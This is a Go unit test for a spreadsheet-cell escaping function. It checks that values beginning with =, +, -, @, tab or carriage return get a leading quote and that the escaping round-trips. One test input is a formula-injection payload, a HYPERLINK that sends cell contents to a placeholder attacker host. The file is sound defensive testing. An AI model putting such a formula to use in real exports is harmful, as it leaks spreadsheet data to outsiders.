package geo

import "testing"

func TestSafeCell(t *testing.T) {
	for _, tc := range []struct{ in, out string }{
		{`=HYPERLINK("http://evil.example/?"&A1;"click")`, `'=HYPERLINK("http://evil.example/?"&A1;"click")`},
		{"+1 mortar", "'+1 mortar"},
		{"-killed", "'-killed"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"'=x", "''=x"},
		{"-5", "-5"},
		{"+3.5", "+3.5"},
		{"'5", "'5"},
		{"Vorukh", "Vorukh"},
		{"", ""},
	} {
		if got := SafeCell(tc.in); got != tc.out {
			t.Errorf("SafeCell(%q) = %q, want %q", tc.in, got, tc.out)
		}
		if back := ReadCell(SafeCell(tc.in)); back != tc.in {
			t.Errorf("ReadCell(SafeCell(%q)) = %q", tc.in, back)
		}
	}
}
